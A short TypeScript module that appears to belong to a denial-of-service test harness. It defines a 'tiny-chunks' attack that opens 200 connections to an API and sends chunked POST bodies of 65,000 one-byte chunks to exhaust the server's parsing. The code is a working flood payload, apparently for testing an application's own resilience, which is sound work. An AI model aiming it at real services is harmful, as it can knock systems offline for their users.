import type { Attack } from "../attack.ts";
import { flood } from "../flood.ts";

const connectionsCount = 200;
const chunk = "1\r\na\r\n";
/** Of a body that is as long as the API reads. */
const chunksPerConnection = 65_000;

export const attack: Attack = {
  name: "tiny-chunks",
  about: `${connectionsCount} connections to the API from one address, each with a body of ${chunksPerConnection} chunks of one byte, again and again`,
  victim: "signed-read",
  run({ url }, signal) {
    const { hostname, port } = new URL(url);
    const head = "POST /domains/registrations HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n";
    const bytes = Buffer.from(head + chunk.repeat(chunksPerConnection));
    return flood({ host: hostname, port: Number(port), connectionsCount, bytes }, signal);
  },
};
